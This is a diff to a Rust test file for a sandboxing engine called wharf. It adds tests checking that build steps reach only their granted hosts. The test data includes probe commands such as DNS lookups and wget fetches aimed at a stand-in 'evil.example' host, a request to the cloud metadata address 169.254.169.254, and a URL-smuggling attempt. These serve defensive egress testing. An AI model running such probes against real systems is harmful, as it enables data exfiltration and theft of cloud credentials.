@@ -12,7 +12,7 @@ use std::{
     thread,
 };
 
-use wharf_e2e::guests;
+use wharf_e2e::{guests, internet::Internet};
 use wharf_testkit::{World, world::Done};
 
 /// A server on all of this host's addresses that counts who comes, and answers nothing that anybody could use.
@@ -74,7 +74,7 @@ impl Shelf {
 }
 
 /// What is tried, and the guard that stops it. `{port}` is the server's.
-const TRIES: [(&str, &str, &str); 34] = [
+const TRIES: [(&str, &str, &str); 39] = [
     ("env", "HOSTILE_VARIABLE", "host-env"),
     ("env", "PATH", "host-env"),
     ("env", "PASSED", "host-env"),
@@ -104,6 +104,11 @@ const TRIES: [(&str, &str, &str); 34] = [
     ("git", "file:///etc", "git"),
     ("network", "wget -T 2 -q -O - http://127.0.0.1:{port}/", "network"),
     ("network", "nslookup secret.example.com", "network"),
+    ("hosts", "evil.example nslookup secret.evil.example", "network"),
+    ("hosts", "allowed.example,10.0.0.1 true", "network"),
+    ("hosts", "*.example true", "network"),
+    ("hosts", "*.below.example true", "network"),
+    ("hosts", "below.example:443 true", "network"),
     ("cache", "cargo", "caches"),
     ("cache", "shared-name-of-others", "caches"),
     ("publish", "127.0.0.1:{port}/x/y:latest", "registry"),
@@ -160,6 +165,43 @@ fn b42_a_step_of_a_module_without_network_reaches_nobody() {
     }
     assert_eq!(shelf.tries("step", "ls /sys/class/net", None).ok(), "lo");
     assert_eq!(shelf.server.visitors(), 0);
+}
+
+#[test]
+fn b44_steps_reach_the_hosts_that_their_module_was_granted_and_no_others() {
+    let shelf = Shelf::new();
+    let internet = Internet::start(&["allowed.example"]);
+    internet.name("allowed.example", &[internet.address(10)]);
+    internet.name("secret.evil.example", &[internet.address(11)]);
+    // An engine that sees this internet: what it asks for names is the test's own server.
+    let start = format!(
+        "exec unshare --mount sh -c 'mount --bind {} /etc/resolv.conf && exec wharf engine start'",
+        internet.resolv_conf().display()
+    );
+    Done::of(shelf.world.shell(&shelf.world.path("work"), &start)).ok();
+    let hosts = |script: &str| shelf.tries("hosts", &format!("allowed.example {script}"), None);
+    assert_eq!(hosts("wget -q -O - http://allowed.example/").ok(), "this is allowed.example");
+    let evil = internet.address(11);
+    for (script, told) in [
+        ("wget -q -O - http://secret.evil.example/", "secret.evil.example".to_owned()),
+        ("nslookup secret.evil.example", "secret.evil.example".to_owned()),
+        (&format!("wget -q -T 2 -O - http://{evil}/"), format!("{evil}:80")),
+        (
+            "wget -q -O - http://169.254.169.254/latest/meta-data",
+            "169.254.169.254:80".to_owned(),
+        ),
+        (
+            &format!("wget -q -O - http://allowed.example/to/http://{evil}/"),
+            format!("{evil}:80"),
+        ),
+    ] {
+        let tried = hosts(&format!("{script} 2>&1; true"));
+        assert!(!tried.ok().contains("this is"), "{script}: {}", tried.text());
+        tried.says(&format!("wharf: the step may not reach {told} (its network is [\"allowed.example\"])"));
+    }
+    let seen = internet.seen();
+    assert!(seen.names.iter().all(|name| name == "allowed.example"), "{seen:?}");
+    assert!(seen.connections.iter().all(|place| place.ip() != evil), "{seen:?}");
 }
 
 /// One try for each guard: without its guard it is not denied.
